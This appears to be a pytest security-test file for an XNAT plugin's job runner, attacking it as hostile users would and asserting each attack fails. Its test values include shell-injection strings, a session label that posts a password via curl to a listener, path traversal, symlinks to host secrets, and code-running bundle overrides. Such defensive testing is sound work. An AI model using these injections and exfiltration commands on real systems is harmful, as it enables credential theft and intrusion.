"""Attacks on the runner through a running sandbox, each as a hostile user would make it.

The sandbox runs every job with the runner's process backend, on the host, as the server's
user: a value that reached a shell, a mount that was not the launching user's to read, a model
path that left the project, an output link to a host file, would each act on this machine.

Each test attempts the attack and asserts that it is refused or comes to nothing: no marker
file, no alias token in any file, no connection, no data of another project, nothing uploaded.
"""

from __future__ import annotations

import json
import os
import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
import requests

from tests.runner.attack_setup import INFER_COMMAND, INFER_WRAPPER, Site
from xnat_plugin.client import connect
from xnat_plugin.client.transfer import upload_folder
from xnat_plugin.commands.input_filter import ILLEGAL_INPUT_STRINGS, illegal_input_message
from xnat_plugin.runner.status import RESOLUTION_DETAILS_PREFIX
from xnat_plugin.sandbox.seed.clinical_series import AXIAL_SERIES_NUMBER

pytestmark = pytest.mark.slow

HERE = Path(__file__).resolve().parent
AXIAL = str(AXIAL_SERIES_NUMBER)  # the seeded sessions' axial CT, the one infer picks


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """The folder attacks aim their files at (outside the archive and every job's folders)."""
    folder = tmp_path / "outside"
    folder.mkdir()
    return folder


@dataclass
class Listener:
    port: int
    received: list[bytes] = field(default_factory=list)


@pytest.fixture
def listener() -> Iterator[Listener]:
    """A loopback TCP port that records what anyone sends it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    received.append(conn.recv(65536))
                except OSError:
                    received.append(b"(connected)")

    found = Listener(server.getsockname()[1])
    received = found.received
    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield found
    stop.set()
    thread.join(timeout=5)
    server.close()


def test_a_collaborator_cannot_reach_the_shell_through_the_model_name(
    site: Site, outside: Path, tmp_path: Path
) -> None:
    """`CommandResolutionServiceImpl.checkForIllegalInputValue` lets `'`, `|`, `&`, `>`, `#` and
    newlines through; the runner quotes each value where it lands (`runner.shell_line`)."""
    session = site.project_with_session("LIVER")
    command_id = site.install(["LIVER"])
    site.user("carol", "LIVER", "Collaborators")
    attacks = [
        f"tiny' | touch {outside}/MARKER-pipe #",
        f"tiny'\ntouch {outside}/MARKER-newline\n#",
        f"tiny' & env > {outside}/env-dump.txt #",
    ]
    containers = []
    for value in attacks:
        report = site.launch(
            "carol",
            "LIVER",
            command_id,
            INFER_WRAPPER,
            {"session": f"/experiments/{session}", "model-name": value},
        )
        containers.append(site.wait(report))
    assert list(outside.iterdir()) == []
    assert site.files_holding_a_secret(tmp_path) == []
    for container in containers:
        assert container["status"].startswith("Failed"), container
        refused = [line for line in site.log(container).splitlines() if line.startswith("infer:")]
        assert len(refused) == 1 and "model name" in refused[0], (container, site.log(container))
    assert site.assessors("LIVER") == ["SUBJ001_CT1_manual_SEG"]


@pytest.mark.parametrize("illegal", ILLEGAL_INPUT_STRINGS)
def test_xnats_own_input_filter_still_refuses_its_strings(site: Site, illegal: str) -> None:
    """Kept as Container Service applies it (`CommandResolutionService.ILLEGAL_INPUT_STRINGS`,
    checked in `CommandResolutionServiceImpl.checkForIllegalInputValue` during resolution: the
    launch is accepted, its workflow fails with no container), with its message; not as the
    safety guarantee (quoting is)."""
    session = site.project_with_session("LIVER")
    command_id = site.install(["LIVER"])
    site.user("carol", "LIVER", "Collaborators")
    report = site.launch(
        "carol",
        "LIVER",
        command_id,
        INFER_WRAPPER,
        {"session": f"/experiments/{session}", "model-name": f"tiny {illegal} touch M"},
    )
    ended = site.wait(report)
    assert ended["status"] == "Failed (Command resolution)" and ended["id"] is None, ended
    assert ended["details"] == RESOLUTION_DETAILS_PREFIX + illegal_input_message(
        "model-name", illegal
    )


def test_a_stored_session_label_does_not_run_when_an_admin_launches(
    site: Site, outside: Path, tmp_path: Path, listener: Listener
) -> None:
    """A label reaches the command line as a derived input (`derived-from-xnat-object-property:
    label`); the admin's token must stay inside the job."""
    session = site.project_with_session("LIVER")
    command_id = site.install(["LIVER"])
    port = listener.port
    site.set_session_label(
        "LIVER", f"S1|env>{outside}/leaked-env.txt|curl -s -d $XNAT_PASS 127.0.0.1:{port} #"
    )
    report = site.launch(
        site.server.user,
        "LIVER",
        command_id,
        INFER_WRAPPER,
        {"session": f"/experiments/{session}", "model-name": "tiny"},
    )
    container = site.wait(report)
    assert container["id"], container  # the job ran with the label on its command line
    assert list(outside.iterdir()) == []
    assert listener.received == []
    assert site.files_holding_a_secret(tmp_path) == []


def test_a_json_root_pointing_into_another_project_mounts_none_of_its_files(
    site: Site, tmp_path: Path
) -> None:
    """Container Service deserialises a JSON root unchecked (`CommandResolutionServiceImpl.
    resolveXnatObject`: `mapper.readValue`); every mount is authorised as the launching user
    (`runner.stage.authorised_source`) before it is mounted or downloaded."""
    victim = site.project_with_session("VICTIM")
    own = site.project_with_session("EVE")
    command_id = site.install(["EVE"])
    site.user("eve", "EVE", "Owners")
    victim_scan = f"/archive/experiments/{victim}/scans/{AXIAL}"
    root = {
        "id": own,
        "label": "SUBJ001_CT1",
        "xsiType": "xnat:ctSessionData",
        "uri": f"/archive/experiments/{own}",
        "project-id": "EVE",
        "subject-id": "XNAT_S00001",
        "resources": [],
        "assessors": [],
        "scans": [
            {
                "id": AXIAL,
                "xsiType": "xnat:ctScanData",
                "uri": victim_scan,
                "modality": "CT",
                "scan-type": "CT",
                "frames": 16,
                "resources": [
                    {"id": "DICOM", "label": "DICOM", "uri": f"{victim_scan}/resources/DICOM"}
                ],
            }
        ],
    }
    report = site.launch(
        "eve", "EVE", command_id, INFER_WRAPPER, {"session": json.dumps(root), "model-name": "tiny"}
    )
    container = site.wait(report)
    assert container["status"].startswith("Failed"), container
    history = json.dumps(container.get("history") or container)
    assert "may not read" in history and f"scans/{AXIAL}/resources/DICOM" in history
    assert site.assessors("EVE") == ["SUBJ001_CT1_manual_SEG"]  # nothing came back
    staged = [p for p in tmp_path.rglob("staging/mounts/*") if p.is_dir()]
    assert not any(any(p.rglob("*.dcm")) for p in staged)


def test_a_json_root_cannot_download_another_projects_files(site: Site, tmp_path: Path) -> None:
    """The same check guards downloads (`xnat-monai run` against a remote XNAT)."""
    from xnat_plugin.cli import main

    victim = site.project_with_session("VICTIM")
    site.project_with_session("EVE")
    site.user("eve", "EVE", "Owners")
    victim_dicom = f"/archive/experiments/{victim}/scans/{AXIAL}/resources/DICOM"
    root = {
        "id": "X",
        "label": "X",
        "xsiType": "xnat:ctSessionData",
        "uri": f"/archive/experiments/{victim}",
        "project-id": "EVE",
        "subject-id": "S",
        "scans": [
            {
                "id": AXIAL,
                "uri": f"/archive/experiments/{victim}/scans/{AXIAL}",
                "modality": "CT",
                "frames": 16,
                "resources": [{"label": "DICOM", "uri": victim_dicom}],
            }
        ],
    }
    code = main(
        [
            "run", "--xnat", site.url, "--user", "eve", "--password", "eve-pw",
            "--wrapper", INFER_WRAPPER, "--target", json.dumps(root),
            "--command-file", str(INFER_COMMAND), "--input", "model-name=tiny",
            "--workdir", str(tmp_path / "runs"),
        ]
    )  # fmt: skip
    assert code == 1
    (record,) = (tmp_path / "runs").glob("*/container.json")
    events = json.loads(record.read_text())["history"]
    assert "may not read" in events[-1]["message"]
    assert not list((tmp_path / "runs").rglob("*.dcm"))


def test_a_model_name_cannot_load_another_projects_model(site: Site) -> None:
    """The model name is XNAT's label rule and is looked up inside the project's
    MONAI_MODELS only (`containers.common.model_folder`)."""
    site.project_with_session("VICTIM", model="victim-private")
    session = site.project_with_session("LIVER")
    command_id = site.install(["LIVER"])
    site.user("carol", "LIVER", "Collaborators")
    escape = "../../../VICTIM/resources/MONAI_MODELS/victim-private"
    report = site.launch(
        "carol",
        "LIVER",
        command_id,
        INFER_WRAPPER,
        {"session": f"/experiments/{session}", "model-name": escape},
    )
    container = site.wait(report)
    assert container["status"].startswith("Failed"), container
    stderr, stdout = site.log(container), site.log(container, "stdout")
    refused = [line for line in stderr.splitlines() if line.startswith("infer:")]
    assert len(refused) == 1 and "model name" in refused[0]
    assert "victim-private 0.0.1" not in stderr + stdout  # never loaded
    assert site.assessors("LIVER") == ["SUBJ001_CT1_manual_SEG"]


def test_an_output_holding_a_link_to_a_host_file_uploads_nothing(site: Site, outside: Path) -> None:
    """Finalization reads on the host: a link written by the job must not be followed
    (`runner.finalize.refuse_links`), and no part of the job's outputs is uploaded."""
    secret = outside / "host-secret.txt"
    secret.write_text("the host's private data\n")
    session = site.project_with_session("LIVER")
    command = json.loads((HERE.parent / "container_service" / "tiny-command.json").read_text())
    command["name"] = "xnat-monai-link-step"
    command["command-line"] = (
        f"python {HERE / 'link_step.py'} --session-id #SESSION_ID# --session-label "
        f"#SESSION_LABEL# --project #PROJECT# --output /output --link-to {secret}"
    )
    command["xnat"] = command["xnat"][:1]
    command_file = site.tmp_path / "link-command.json"
    command_file.write_text(json.dumps([command]))
    command_id = site.install(["LIVER"], command_file)
    report = site.launch(
        site.server.user,
        "LIVER",
        command_id,
        "tiny-qc-session",
        {"session": f"/experiments/{session}"},
    )
    container = site.wait(report)
    assert container["status"] == "Failed (Upload)", container
    history = json.dumps(container["history"])
    assert "QC/host-file.txt is a symbolic link" in history
    assert site.assessors("LIVER") == ["SUBJ001_CT1_manual_SEG"]  # not even the assessor
    stored = [p for p in Path(site.server.data_dir).rglob("*") if not p.is_symlink()]
    assert not [p for p in stored if p.is_file() and b"private data" in p.read_bytes()]
    listing = requests.get(
        f"{site.url}/data/experiments/{session}/assessors", auth=site.admin(), timeout=30
    )
    assert "linkqc" not in listing.text


def test_a_job_reads_none_of_the_servers_environment_and_no_world_writable_folder(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Attack: a job dumps its environment (the server's secrets, its user's HOME) and looks for
    a folder anyone may write. Container Service gives a container only the image's variables,
    the command's and XNAT_* (`DockerControlApi.createDockerContainer`: `withEnv`), and its
    build folder writable by XNAT's user only (`CommandResolutionServiceImpl.getBuildDirectory`:
    `setWritable(true)`); the process backend gives no more (`runner.backends.
    process_environment`, `runner.stage.make_build_directory`)."""
    monkeypatch.setenv("SERVER_DATABASE_PASSWORD", "the-servers-own-secret")
    session = site.project_with_session("LIVER")
    command = json.loads((HERE.parent / "container_service" / "tiny-command.json").read_text())
    command["name"] = "xnat-monai-env-step"
    command["command-line"] = (
        "env > /output/env.txt; stat -c %a /output > /output/mode.txt; "
        "ls -a ~ > /output/home.txt; exit 3"
    )
    command["xnat"] = command["xnat"][:1]
    command_file = site.tmp_path / "env-command.json"
    command_file.write_text(json.dumps([command]))
    command_id = site.install(["LIVER"], command_file)
    site.user("carol", "LIVER", "Members")
    report = site.launch(
        "carol", "LIVER", command_id, "tiny-qc-session", {"session": f"/experiments/{session}"}
    )
    container = site.wait(report)
    assert container["status"].startswith("Failed"), container  # exit 3: nothing uploaded
    (dump,) = site.tmp_path.rglob("env.txt")
    seen = dict(line.split("=", 1) for line in dump.read_text().splitlines() if "=" in line)
    assert "the-servers-own-secret" not in dump.read_text()
    assert "SERVER_DATABASE_PASSWORD" not in seen
    assert seen["XNAT_USER"] and seen["XNAT_PASS"] in site.secrets  # the job's own alias token
    assert seen["HOME"] != os.environ.get("HOME")
    assert (dump.parent / "home.txt").read_text().split() == [".", ".."]  # nothing of a user's
    mode = int((dump.parent / "mode.txt").read_text(), 8)
    assert mode & 0o022 == 0 and mode & 0o200, oct(mode)  # never 0777


def test_a_bundle_override_cannot_make_the_step_run_code(site: Site, outside: Path) -> None:
    """Attack: a collaborator launches infer on a model-zoo bundle with a `bundle-overrides`
    value that names a Python callable (`_target_`), written without the characters XNAT's
    input filter refuses (`CommandResolutionServiceImpl.checkForIllegalInputValue`). The
    override is merged into the config before the trust decision reads it
    (`containers.common.bundle_pipeline.read_config`, `bundle_trust.decide`), so the step
    refuses it in one line and nothing is created."""
    from tests.monai_bundles import tiny_bundle as zoo_style_bundle

    session = site.project_with_session("LIVER")
    bundle = zoo_style_bundle(site.tmp_path / "zoo-models", name="tiny_zoo")
    with connect(site.url, *site.admin()) as client:
        upload_folder(client, "/data/projects/LIVER", "MONAI_MODELS", bundle.parent)
    command_id = site.install(["LIVER"])
    site.user("carol", "LIVER", "Collaborators")
    marker = outside / "MARKER"
    report = site.launch(
        "carol",
        "LIVER",
        command_id,
        INFER_WRAPPER,
        {
            "session": f"/experiments/{session}",
            "model-name": "tiny_zoo",
            "bundle-overrides": f'network_def={{"_target_":"os.mkdir","path":"{marker}"}}',
        },
    )
    container = site.wait(report)
    assert container["status"].startswith("Failed"), container
    refused = [line for line in site.log(container).splitlines() if line.startswith("infer:")]
    assert len(refused) == 1 and "os.mkdir" in refused[0], (container, site.log(container))
    assert list(outside.iterdir()) == []
    assert site.assessors("LIVER") == ["SUBJ001_CT1_manual_SEG"]
